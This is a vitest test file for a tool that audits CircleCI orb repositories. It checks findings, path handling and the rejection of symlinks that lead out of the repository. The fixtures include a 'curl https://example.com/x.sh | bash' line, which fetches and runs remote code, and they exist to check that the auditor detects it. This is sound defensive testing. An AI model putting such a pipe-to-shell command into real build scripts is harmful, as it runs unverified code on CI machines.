import { symlinkSync } from "node:fs";
import { expect, it } from "vitest";
import { clean, project } from "./project.ts";

const files = {
  ".circleci/config.yml": clean,
  "src/@orb.yml": "version: 2.1\ndescription: An orb.\n",
  "src/commands/install.yml": "steps:\n  - run:\n      command: <<include(scripts/install.sh)>>\n",
  "src/commands/steal.yml": "steps:\n  - run:\n      command: <<include(scripts/link.sh)>>\n",
  "src/jobs/build.yml": "executor: default\nsteps: [install]\n",
  "src/executors/default.yml": "docker: [{ image: node:latest }]\n",
  "src/scripts/install.sh": "curl https://example.com/x.sh | bash\n",
};

it("the repository of an orb is audited as a whole, each finding in its own file", () => {
  const { run } = project(files);
  const { stdout, stderr } = run(["-f", "github"]);
  expect(stderr).toBe("");
  expect(stdout).toContain("file=src/executors/default.yml,line=1");
  expect(stdout).toContain("file=src/scripts/install.sh,line=1");
});

it.each([[["src"]], [["src/@orb.yml"]], [["."]]])("%j names the orb", (paths) => {
  expect(project(files).run([...paths, "-f", "github"]).stdout).toContain("file=src/scripts/install.sh,line=1");
});

it("a link out of the repository is not included", () => {
  const { run, at } = project(files);
  symlinkSync("/etc/hostname", at("src/scripts/link.sh"));
  const { status, stdout } = run(["-f", "github"]);
  expect(status).toBe(2);
  expect(stdout).toContain("is a link that leads out of the repository");
});

it("a packed orb may be named", () => {
  const packed = "version: 2.1\ncommands:\n  a:\n    steps:\n      - run: curl https://example.com/x.sh | bash\n";
  expect(project({ "orb.yml": packed }).run(["orb.yml", "-f", "github"]).stdout).toContain("file=orb.yml,line=5");
});
